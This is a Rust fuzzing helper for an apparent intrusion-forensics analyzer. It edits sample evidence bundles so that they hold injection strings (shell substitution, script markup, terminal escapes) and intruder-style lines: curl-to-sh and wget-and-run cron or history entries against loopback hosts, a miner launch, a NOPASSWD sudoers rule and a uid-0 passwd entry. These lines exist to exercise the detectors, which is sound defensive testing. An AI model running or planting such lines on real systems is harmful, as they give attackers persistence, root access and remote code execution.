//! Structure-aware bundle inputs: the fuzz bytes choose a shipped sample bundle and a list of edits on its
//! members (text lines with hostile bytes, record fields, bit flips, new and removed members). The edited
//! bundle is written back with the real [`BundleWriter`] and a manifest whose hashes match (or, on request,
//! the sample's stale manifest), so the input reaches the model, the detectors and every output instead of
//! stopping at a checksum.

use std::path::PathBuf;
use std::sync::OnceLock;

use arbitrary::{Arbitrary, Unstructured};
use minetrace_schemas::bundle::{members, read_bundle, BundleWriter, ReadLimits};
use minetrace_schemas::manifest::{Manifest, MANIFEST_MEMBER};
use minetrace_schemas::records::{self, RecordSetV1};
use minetrace_schemas::RawBytes;

/// Where the shipped sample bundles live (the seeds of every bundle target).
pub fn samples_dir() -> PathBuf {
    PathBuf::from(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../samples/bundles"
    ))
}

/// One sample bundle, decoded once.
pub struct Sample {
    pub name: String,
    pub manifest: Manifest,
    pub members: Vec<(String, Vec<u8>)>,
}

/// The shipped samples, sorted by name; empty when the directory cannot be read (the targets then have
/// nothing to edit, and the regression test that checks the samples load fails loudly).
pub fn samples() -> &'static [Sample] {
    static SAMPLES: OnceLock<Vec<Sample>> = OnceLock::new();
    SAMPLES.get_or_init(|| {
        let mut paths: Vec<PathBuf> = std::fs::read_dir(samples_dir())
            .into_iter()
            .flatten()
            .flatten()
            .map(|e| e.path())
            .filter(|p| p.to_string_lossy().ends_with(".tar.zst"))
            .collect();
        paths.sort();
        paths
            .iter()
            .filter_map(|p| {
                let bytes = std::fs::read(p).ok()?;
                let bundle = read_bundle(bytes.as_slice(), ReadLimits::default()).ok()?;
                let members = bundle
                    .member_names()
                    .filter_map(|n| Some((n.to_owned(), bundle.member(n)?.to_vec())))
                    .collect();
                Some(Sample {
                    name: p.file_name()?.to_string_lossy().into_owned(),
                    manifest: bundle.manifest.clone(),
                    members,
                })
            })
            .collect()
    })
}

/// Bytes attackers put in names and lines to break a printer, a page or a script; each holds the
/// canary tag of [`crate::invariants::CANARY_TAG`] or the `x-fz` marker.
#[derive(Arbitrary, Debug, Clone, Copy)]
pub enum Hostile {
    Nothing,
    Newline,
    TerminalEscape,
    Markup,
    ShellSubstitution,
    InvalidUtf8,
    Bidi,
    Nul,
    Quotes,
    Long,
}

impl Hostile {
    pub fn bytes(self) -> Vec<u8> {
        match self {
            Hostile::Nothing => Vec::new(),
            Hostile::Newline => b"\nx-fz\r\n\t".to_vec(),
            Hostile::TerminalEscape => b"\x1b[31mx-fz\x1b]0;x-fz\x07\x9b2J".to_vec(),
            Hostile::Markup => b"<x-fz onload=alert(1)>\"'&</script>".to_vec(),
            Hostile::ShellSubstitution => b"$(touch /tmp/x-fz)`id`;x-fz|&".to_vec(),
            Hostile::InvalidUtf8 => b"\xff\xfex-fz\xc0\x80\xed\xa0\x80".to_vec(),
            Hostile::Bidi => "\u{202e}x-fz\u{2066}\u{200f}".as_bytes().to_vec(),
            Hostile::Nul => b"\0x-fz\0".to_vec(),
            Hostile::Quotes => b"'\"\\x-fz\\'\"".to_vec(),
            Hostile::Long => [b'x'; 70_000].to_vec(),
        }
    }
}

/// Lines shaped like what intruders leave (so detectors fire and their subjects carry the hostile
/// bytes into findings, graph and plan), or nothing but the fuzz bytes.
#[derive(Arbitrary, Debug, Clone, Copy)]
pub enum Shape {
    Raw,
    CronDownload,
    CronMiner,
    UnitExec,
    AuthorizedKey,
    SshdOption,
    SudoersRule,
    PasswdLine,
    IptablesRule,
    AuthLogLine,
    HistoryLine,
}

impl Shape {
    fn wrap(self, middle: &[u8]) -> Vec<u8> {
        let (head, tail): (&[u8], &[u8]) = match self {
            Shape::Raw => (b"", b""),
            Shape::CronDownload => (b"*/5 * * * * root curl -fsSL http://127.66.0.1/", b" | sh"),
            Shape::CronMiner => (b"@reboot /tmp/.x/", b" -o stratum+tcp://127.66.0.1:3333 --donate-level 1"),
            Shape::UnitExec => (b"ExecStart=/var/tmp/.", b" -c /dev/shm/config.json"),
            Shape::AuthorizedKey => (b"command=\"", b"\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBcl3oVk2CijhQRWmfzVsZSLNzcWs1u0Hgh7b3Zoz2Vw x-fz"),
            Shape::SshdOption => (b"AuthorizedKeysFile /tmp/", b" .ssh/authorized_keys"),
            Shape::SudoersRule => (b"", b" ALL=(ALL) NOPASSWD: ALL"),
            Shape::PasswdLine => (b"", b":x:0:0::/root:/bin/bash"),
            Shape::IptablesRule => (b"-A INPUT -s 127.0.0.0/8 -p tcp --dport 22 -m comment --comment \"", b"\" -j DROP"),
            Shape::AuthLogLine => (b"Dec  4 23:01:02 host sshd[4242]: Accepted password for ", b" from 127.9.9.9 port 4242 ssh2"),
            Shape::HistoryLine => (b"wget -q http://127.66.0.1/", b" -O /tmp/.x && chmod +x /tmp/.x && nohup /tmp/.x &"),
        };
        [head, middle, tail].concat()
    }
}

/// Which string field of a record an edit writes.
#[derive(Arbitrary, Debug, Clone, Copy)]
pub enum RecordField {
    ProcessComm,
    ProcessCmdline,
    ProcessExePath,
    ProcessCwd,
    FilePath,
    FileCategory,
}

/// One edit of a bundle. Member and record indices wrap around the bundle's counts.
#[derive(Arbitrary, Debug)]
pub enum Edit {
    /// A line (shaped, with hostile bytes) inserted before line `line` of a member.
    InsertLine {
        member: u16,
        line: u16,
        shape: Shape,
        text: Vec<u8>,
        hostile: Hostile,
    },
    /// A string field of one process or file record replaced.
    SetField {
        field: RecordField,
        record: u16,
        text: Vec<u8>,
        hostile: Hostile,
    },
    Replace {
        member: u16,
        bytes: Vec<u8>,
    },
    Splice {
        member: u16,
        at: u32,
        remove: u16,
        insert: Vec<u8>,
    },
    FlipBit {
        member: u16,
        at: u32,
        bit: u8,
    },
    Truncate {
        member: u16,
        len: u32,
    },
    Remove {
        member: u16,
    },
    /// A new member under one of the places the analyzer reads.
    Add {
        place: u8,
        name: Vec<u8>,
        shape: Shape,
        text: Vec<u8>,
        hostile: Hostile,
    },
}

/// The structure-aware input: a sample, edits, and whether the manifest is rewritten to match.
#[derive(Arbitrary, Debug)]
pub struct BundleEdit {
    pub sample: u8,
    pub edits: Vec<Edit>,
    pub stale_manifest: bool,
}

const PLACES: &[&str] = &[
    "fs/etc/cron.d/",
    "fs/var/spool/cron/crontabs/",
    "fs/etc/systemd/system/",
    "fs/root/.ssh/",
    "fs/etc/ssh/sshd_config.d/",
    "fs/etc/sudoers.d/",
    "fs/var/log/",
    "fs/root/.",
    "fs/tmp/",
    "bin/",
    "records/",
];

fn pick<T>(items: &mut [T], index: u16) -> Option<&mut T> {
    let n = items.len();
    if n == 0 {
        return None;
    }
    items.get_mut(usize::from(index) % n)
}

fn insert_line(content: &mut Vec<u8>, line: u16, new: &[u8]) {
    let mut at = 0;
    for _ in 0..line {
        match content
            .get(at..)
            .and_then(|rest| rest.iter().position(|b| *b == b'\n'))
        {
            Some(i) => at += i + 1,
            None => {
                at = content.len();
                break;
            }
        }
    }
    let mut line = new.to_vec();
    line.push(b'\n');
    content.splice(at..at, line);
}

fn set_field(members: &mut [(String, Vec<u8>)], field: RecordField, record: u16, text: Vec<u8>) {
    let name = match field {
        RecordField::FilePath | RecordField::FileCategory => members::FILES,
        _ => members::PROCESSES,
    };
    let Some((_, bytes)) = members.iter_mut().find(|(n, _)| n == name) else {
        return;
    };
    let Ok(mut set) = records::decode(bytes) else {
        return;
    };
    match (&mut set, field) {
        (RecordSetV1::Processes(ps), f) => {
            let Some(p) = pick(ps, record) else { return };
            match f {
                RecordField::ProcessComm => p.comm = RawBytes::new(text),
                RecordField::ProcessCmdline => p.cmdline = RawBytes::new(text),
                RecordField::ProcessExePath => {
                    if let Some(exe) = p.exe.as_mut() {
                        exe.path = RawBytes::new(text);
                    }
                }
                _ => p.cwd = Some(RawBytes::new(text)),
            }
        }
        (RecordSetV1::Files(fs), RecordField::FileCategory) => {
            if let Some(f) = pick(fs, record) {
                f.category = String::from_utf8_lossy(&text).into_owned();
            }
        }
        (RecordSetV1::Files(fs), _) => {
            if let Some(f) = pick(fs, record) {
                f.path = RawBytes::new(text);
            }
        }
        _ => return,
    }
    *bytes = records::encode(&set);
}

/// Applies the edits to a copy of a sample's members.
pub fn apply(sample: &Sample, edits: &[Edit]) -> Vec<(String, Vec<u8>)> {
    let mut members = sample.members.clone();
    for edit in edits {
        match edit {
            Edit::InsertLine {
                member,
                line,
                shape,
                text,
                hostile,
            } => {
                let new = shape.wrap(&[text.as_slice(), &hostile.bytes()].concat());
                if let Some((_, content)) = pick(&mut members, *member) {
                    insert_line(content, *line, &new);
                }
            }
            Edit::SetField {
                field,
                record,
                text,
                hostile,
            } => {
                let text = [text.as_slice(), &hostile.bytes()].concat();
                set_field(&mut members, *field, *record, text);
            }
            Edit::Replace { member, bytes } => {
                if let Some((_, content)) = pick(&mut members, *member) {
                    content.clone_from(bytes);
                }
            }
            Edit::Splice {
                member,
                at,
                remove,
                insert,
            } => {
                if let Some((_, content)) = pick(&mut members, *member) {
                    let at = (*at as usize).min(content.len());
                    let end = at.saturating_add(usize::from(*remove)).min(content.len());
                    content.splice(at..end, insert.iter().copied());
                }
            }
            Edit::FlipBit { member, at, bit } => {
                if let Some((_, content)) = pick(&mut members, *member) {
                    let n = content.len().max(1);
                    if let Some(b) = content.get_mut(*at as usize % n) {
                        *b ^= 1 << (bit % 8);
                    }
                }
            }
            Edit::Truncate { member, len } => {
                if let Some((_, content)) = pick(&mut members, *member) {
                    content.truncate(*len as usize);
                }
            }
            Edit::Remove { member } => {
                if !members.is_empty() {
                    members.remove(usize::from(*member) % members.len());
                }
            }
            Edit::Add {
                place,
                name,
                shape,
                text,
                hostile,
            } => {
                let place = PLACES[usize::from(*place) % PLACES.len()];
                let name = format!("{place}{}", String::from_utf8_lossy(name));
                let content = shape.wrap(&[text.as_slice(), &hostile.bytes()].concat());
                members.retain(|(n, _)| *n != name);
                members.push((name, content));
            }
        }
    }
    members
}

/// Writes members as a bundle: with the real [`BundleWriter`] and a fresh manifest (hashes match), or
/// (`stale`) as a plain tar + zstd stream ending in the sample's own manifest, so every edited member is an
/// integrity problem the analysis must carry (`--allow-tampered`). `None` when the writer refuses a member
/// name, which is its job.
pub fn write(sample: &Sample, members: &[(String, Vec<u8>)], stale: bool) -> Option<Vec<u8>> {
    if stale {
        return write_stale(sample, members).ok();
    }
    let mut w = BundleWriter::new(Vec::new(), 0, 0).ok()?;
    for (name, data) in members {
        w.add(name, data).ok()?;
    }
    let (bytes, _) = w.finish(sample.manifest.clone()).ok()?;
    Some(bytes)
}

fn write_stale(sample: &Sample, members: &[(String, Vec<u8>)]) -> std::io::Result<Vec<u8>> {
    let manifest = serde_json::to_vec(&sample.manifest).map_err(std::io::Error::other)?;
    let mut tar = tar::Builder::new(zstd::Encoder::new(Vec::new(), 1)?);
    let all = members
        .iter()
        .map(|(n, d)| (n.as_str(), d.as_slice()))
        .chain(std::iter::once((MANIFEST_MEMBER, manifest.as_slice())));
    for (name, data) in all {
        let mut header = tar::Header::new_gnu();
        header.set_size(data.len() as u64);
        header.set_mode(0o644);
        header.set_entry_type(tar::EntryType::Regular);
        tar.append_data(&mut header, name, data)?;
    }
    tar.into_inner()?.finish()
}

impl BundleEdit {
    /// The edit the fuzz bytes stand for.
    pub fn decode(data: &[u8]) -> Option<BundleEdit> {
        BundleEdit::arbitrary_take_rest(Unstructured::new(data)).ok()
    }
}

/// Decodes the fuzz bytes into a [`BundleEdit`] and writes the edited bundle.
pub fn edited_bundle(data: &[u8]) -> Option<Vec<u8>> {
    let edit = BundleEdit::decode(data)?;
    let all = samples();
    let sample = all.get(usize::from(edit.sample) % all.len().max(1))?;
    let members = apply(sample, &edit.edits);
    write(sample, &members, edit.stale_manifest)
}
